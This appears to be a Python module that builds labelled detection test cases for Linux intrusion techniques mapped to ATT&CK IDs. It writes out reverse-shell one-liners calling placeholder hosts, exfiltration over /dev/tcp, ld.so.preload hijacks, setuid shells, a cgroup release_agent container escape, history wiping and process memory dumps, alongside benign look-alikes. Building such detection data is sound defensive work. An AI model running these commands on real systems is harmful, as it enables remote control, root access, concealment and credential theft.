"""Intrusions into Linux: shells tied to the network, ways to root, what makes code run again, and what hides it.

Sources: ATT&CK's matrices for Linux and for Containers; each family's rule names its manual page.
"""

from __future__ import annotations

from tasks.families.story import HOST, Family
from tasks.families.tellings import Row, made, start

BASH, SSHD = "/usr/bin/bash", "/usr/sbin/sshd"
_SHELLS = ("/usr/bin/bash", "/usr/bin/sh")
_HANDS = ("/usr/bin/bash", "/usr/bin/tee", "/usr/bin/cp", "/usr/bin/mv", "/usr/bin/curl", "/usr/bin/wget")
_FOREIGN = ("/tmp/{word}/{word2}", "/dev/shm/{word}", "/var/tmp/.{word}", "/usr/sbin/nginx", "/usr/sbin/apache2")
_PACKAGES = ("/usr/bin/dpkg", "/usr/bin/rpm", "/usr/bin/apt", "/usr/bin/puppet", "/usr/bin/snapd")


def sh(text: str, parent: str = SSHD) -> Row:
    """Describe one command that a shell runs."""
    return start(BASH, f"bash -c '{text}'", parent)


def run(path: str, arguments: str) -> Row:
    """Describe the start of a program with arguments by a shell."""
    return start(path, f"{path[path.rfind('/') + 1 :]} {arguments}", BASH)


def wrote(path: str, writer: str | tuple[str, ...], activity: str = "create") -> Row:
    """Describe a file that a program writes."""
    return Row("file", activity, {"file_path": path, "process_path": writer})


def _each(rows: list[Row]) -> list[list[Row]]:
    """Make a telling of each row."""
    return [[row] for row in rows]


def _connect(host: str, use: str) -> str:
    """Write a one-liner of Python that connects to a host and does something with the socket `s`."""
    return f'import socket,os,pty;s=socket.create_connection(("{host}",443));{use}'


_TIED = '[os.dup2(s.fileno(),n) for n in (0,1,2)];pty.spawn("/bin/sh")'
_SENT = 's.sendall(b"{word}")'
_SUDOERS = ("/etc/sudoers", "/etc/sudoers.d/{word}", "/etc/sudoers.d/{user}")
_UNITS = (
    "/etc/systemd/system/{word}.service",
    "/etc/systemd/system/{word}.timer",
    "/usr/lib/systemd/system/{word}.socket",
    "/etc/init.d/{word}",
    "/etc/profile.d/{word}.sh",
    "/etc/update-motd.d/99-{word}",
    "/etc/udev/rules.d/99-{word}.rules",
    "/etc/rc.local",
)


def _written(paths: tuple[str, ...], writers: tuple[str, ...]) -> list[list[Row]]:
    """Tell of each path that one of some programs makes it or changes it."""
    return [
        [wrote(path, writer, activity)] for path in paths for writer in writers for activity in ("create", "modify")
    ]


FAMILIES: tuple[Family, ...] = (
    made(
        "called_shell",
        "T1059.004",
        "execution",
        ("shell-over-network",),
        confirmed=_each(
            [
                sh("bash -i >& /dev/tcp/{address}/443 0>&1"),
                sh("sh -i >& /dev/tcp/{other_ip}/8080 0>&1"),
                sh("cat < /dev/tcp/{domain}/80 | bash"),
                run("/usr/bin/nc", "{address} 443 -e /bin/sh"),
                run("/usr/bin/python3", f"-c '{_connect('{domain}', _TIED)}'"),
            ]
        ),
        suspicious=_each(
            [
                sh("bash -i >& /dev/tcp/127.0.0.1/443 0>&1"),
                sh("tar c /srv/{word} > /dev/tcp/{address}/80"),
                sh("cat /srv/{word} > /dev/tcp/{domain}/80"),
                run("/usr/bin/nc", "127.0.0.1 443 -e /bin/sh"),
                run("/usr/bin/python3", f"-c '{_connect('{address}', _SENT)}'"),
            ]
        ),
        below=_each(
            [
                sh("echo > /dev/tcp/{address}/443"),
                sh("tar c /srv/{word} > /dev/tcp/{other_ip}/80"),
                sh("cat /srv/{word} > /dev/tcp/localhost/80"),
                run("/usr/bin/nc", "-zv {address} 443"),
                run("/usr/bin/python3", f"-c '{_connect('{other_ip}', _SENT)}'"),
            ]
        ),
        reaches=HOST,
        platform="linux",
    ),
    made(
        "preloaded_library",
        "T1574.006",
        "privilege_escalation",
        ("library-preloaded",),
        confirmed=_each(
            [
                sh("echo /tmp/{word}.so | tee -a /etc/ld.so.preload"),
                sh("cp /home/{user}/{word} /etc/ld.so.preload"),
                sh("cp /dev/shm/{word} /etc/ld.so.preload"),
            ]
        ),
        suspicious=_each(
            [
                sh("echo /usr/lib/{word}.so | tee -a /etc/ld.so.preload"),
                sh("LD_PRELOAD=/dev/shm/{word}.so /usr/bin/sudo -l"),
                sh("LD_AUDIT=/tmp/{word}.so /usr/bin/passwd -S"),
            ]
        ),
        below=_each(
            [
                sh("echo /tmp/{word}.so | grep -f /etc/ld.so.preload"),
                sh("LD_PRELOAD=/usr/lib/{word}.so /usr/bin/sudo -l"),
                sh("LD_AUDIT=/usr/lib/{word}.so /usr/bin/passwd -S"),
            ]
        ),
        reaches=HOST,
        platform="linux",
    ),
    made(
        "changed_sudoers",
        "T1548.003",
        "privilege_escalation",
        ("sudoers-changed",),
        confirmed=_written(_SUDOERS, _FOREIGN),
        suspicious=_written(_SUDOERS, _HANDS),
        below=[*_written(_SUDOERS, _PACKAGES), *_written(("/srv/{word}/sudoers", "/etc/sudo.conf"), _HANDS)],
        reaches=HOST,
        platform="linux",
    ),
    made(
        "written_unit",
        "T1543.002",
        "persistence",
        ("unit-written",),
        confirmed=_written(_UNITS, _FOREIGN),
        suspicious=_written(_UNITS, _HANDS),
        below=[
            *_written(_UNITS, _PACKAGES),
            *_written(("/srv/{word}/{word2}.service", "/opt/{word}/rc.local"), _HANDS),
        ],
        reaches=HOST,
        platform="linux",
    ),
    made(
        "inserted_module",
        "T1547.006",
        "persistence",
        ("kernel-module-inserted",),
        confirmed=_each(
            [
                run("/usr/sbin/insmod", "/tmp/{word}.ko"),
                run("/usr/sbin/insmod", "/home/{user}/{word}.ko"),
                run("/usr/sbin/modprobe", "-d /dev/shm/{word} {word2}"),
            ]
        ),
        suspicious=_each(
            [
                run("/usr/sbin/insmod", "./{word}.ko"),
                run("/usr/sbin/insmod", "/opt/{word}/{word2}.ko"),
                run("/usr/sbin/modprobe", "-d /opt/{word} {word2}"),
            ]
        ),
        below=_each(
            [
                run("/usr/sbin/insmod", "/lib/modules/6.1.0-18-amd64/extra/{word}.ko"),
                run("/usr/sbin/insmod", "/usr/lib/modules/5.15.0-105/updates/{word}.ko"),
                run("/usr/sbin/modprobe", "-v {word}"),
            ]
        ),
        reaches=HOST,
        platform="linux",
    ),
    made(
        "setuid_shell",
        "T1548.001",
        "privilege_escalation",
        ("setuid-shell",),
        confirmed=_each(
            [
                run("/usr/bin/chmod", "u+s /bin/bash"),
                run("/usr/bin/chmod", "4755 /tmp/{word}"),
                run("/usr/bin/chmod", "+s /var/tmp/{word}"),
                run("/usr/bin/install", "-m 4755 /bin/sh /dev/shm/{word}"),
            ]
        ),
        below=_each(
            [
                run("/usr/bin/chmod", "u+x /bin/bash"),
                run("/usr/bin/chmod", "0755 /tmp/{word}"),
                run("/usr/bin/chmod", "+x /var/tmp/{word}"),
                run("/usr/bin/install", "-m 0755 /bin/sh /dev/shm/{word}"),
            ]
        ),
        reaches=HOST,
        platform="linux",
    ),
    made(
        "history_off",
        "T1070.003",
        "defense_evasion",
        ("shell-history-off",),
        suspicious=_each(
            [
                sh("unset HISTFILE"),
                sh("export HISTFILE=/dev/null"),
                sh("export HISTSIZE=0"),
                sh("set +o history"),
                sh("ln -sf /dev/null /home/{user}/.bash_history"),
                sh("rm -f /home/{user}/.bash_history"),
                sh("shred -u /home/{user}/.zsh_history"),
            ]
        ),
        below=_each(
            [
                sh("unset {word}"),
                sh("export HISTFILE=/home/{user}/{word}"),
                sh("export HISTSIZE={number}"),
                sh("set -o history"),
                sh("ls -l /home/{user}/.bash_history"),
                sh("rm -f /home/{user}/{word}"),
                sh("wc -l /home/{user}/.zsh_history"),
            ]
        ),
        platform="linux",
    ),
    made(
        "left_container",
        "T1611",
        "privilege_escalation",
        ("host-from-container",),
        confirmed=_each(
            [
                sh("echo /{word} > /tmp/{word2}/release_agent"),
                sh("echo /{word} > /sys/fs/cgroup/rdma/release_agent"),
                sh("mount -t cgroup -o rdma cgroup /{word}; echo /{word2} > /{word}/release_agent"),
            ]
        ),
        suspicious=_each(
            [
                sh("nsenter -t 1 -m -u -i -n sh"),
                sh("docker run -v /:/{word} -it {word2} chroot /{word}"),
                sh("podman run --privileged --volume /:/mnt {word} sh"),
            ]
        ),
        below=_each(
            [
                sh("nsenter -t {number} -m -u -i -n sh"),
                sh("docker run -v /:/{word}:ro -it {word2} ls /{word}"),
                sh("podman run --privileged --volume /srv:/mnt {word} sh"),
                sh("mount -t cgroup -o rdma cgroup /{word}; cat /{word}/release_agent"),
            ]
        ),
        reaches=HOST,
        platform="linux",
    ),
    made(
        "copied_memory",
        "T1003.007",
        "credential_access",
        ("process-memory-copied",),
        suspicious=_each(
            [
                run("/usr/bin/gcore", "-o /root/{word} {number}"),
                run("/usr/bin/gdb", "-p {number} --batch -ex gcore"),
                sh("dd if=/proc/{number}/mem of=/root/{word} bs=4096"),
                sh("strings /proc/{number}/mem"),
            ]
        ),
        below=_each(
            [
                run("/usr/bin/gcore", "--help"),
                run("/usr/bin/gdb", "-p {number} --batch -ex backtrace"),
                sh("dd if=/proc/{number}/maps of=/root/{word} bs=4096"),
                sh("strings /proc/{number}/environ"),
            ]
        ),
        platform="linux",
    ),
)
